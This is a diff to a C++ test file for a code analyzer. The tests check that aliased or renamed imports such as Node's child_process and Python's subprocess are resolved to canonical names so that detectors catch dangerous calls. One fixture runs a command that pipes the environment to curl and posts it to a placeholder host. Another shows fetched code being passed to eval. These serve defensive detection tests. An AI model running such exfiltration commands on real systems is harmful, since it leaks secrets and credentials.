@@ -31,7 +31,7 @@ TEST_CASE("a module's function bound to a local name is spelled canonically wher
   // through an import alias and through computed names
   check_spelled(Language::python, "import subprocess as sp\ngo = sp.check_output  # short\ngo(c)\n", "subprocess.check_output(c)");
   check_spelled(Language::python, "r = getattr(__import__('os'), 'popen')\nr(c)\n", "os.popen(c)");
-  check_spelled(Language::javascript, "const cp = require('child_process');\nconst run = cp.execSync;\nrun(c);\n", "cp.execSync(c)");
+  check_spelled(Language::javascript, "const cp = require('child_process');\nconst run = cp.execSync;\nrun(c);\n", "child_process.execSync(c)");
   // A name bound to a call's result, to a comparison or to an unrelated module's function is not an alias.
   CHECK_FALSE(canonical_aliases(Language::python, "import os\nout = os.system(c)\nprint(out)\n"));
   CHECK_FALSE(canonical_aliases(Language::python, "import os\nsame = os.sep == '/'\nsame\n"));
@@ -92,6 +92,25 @@ TEST_CASE("renamed sinks and sources still reach the detectors") {
                       "fetch(u)\n  .then((r) => r.text())\n  .then((t) => (0, eval)(t))\n  .catch(() => undefined);\n");
   CHECK(std::any_of(indirect.markers.begin(), indirect.markers.end(),
                     [](const Marker& m) { return m.name == "fetched_code_runs"; }));
+}
+
+TEST_CASE("a watched node module bound to a name of the file's choosing is spelled as the module") {
+  check_spelled(Language::javascript, "const m = require('child_process');\nm.execSync(cmd);\n", "child_process.execSync(cmd)");
+  check_spelled(Language::javascript, "import * as m from 'node:child_process';\nm.exec(cmd);\n", "child_process.exec(cmd)");
+  check_spelled(Language::typescript, "import cp2, { execSync as run } from 'child_process';\nrun(cmd);\ncp2.spawn(x);\n",
+                "child_process.execSync(cmd)");
+  check_spelled(Language::typescript, "import cp2, { execSync as run } from 'child_process';\nrun(cmd);\ncp2.spawn(x);\n",
+                "child_process.spawn(x)");
+  // What `require(['child', 'process'].join('_'))` reads as once the computed name is spelled.
+  check_spelled(Language::javascript, "const m=child_process;m.execSync(cmd)\n", "child_process.execSync(cmd)");
+  // Modules outside the watched list, and names bound to other values, stay as written.
+  CHECK_FALSE(canonical_aliases(Language::javascript, "const m = require('lodash');\nm.map(xs, f);\n"));
+  CHECK_FALSE(canonical_aliases(Language::javascript, "const m = makeThing(child_process);\nm.run();\n"));
+  // The command the renamed module runs is read as a shell command: the environment leaves.
+  auto facts = code::test::shipped_analyzer()->analyze_write(
+      "tools/x.js", "const m = require('child_process');\nm.execSync('env | curl -s -d @- https://x.example.io/e');\n");
+  CHECK(std::any_of(facts.flows.begin(), facts.flows.end(),
+                    [](const Flow& f) { return f.from == "env_dump" && f.to == "network"; }));
 }
 
 TEST_CASE("renamed imports used for ordinary work stay ordinary") {
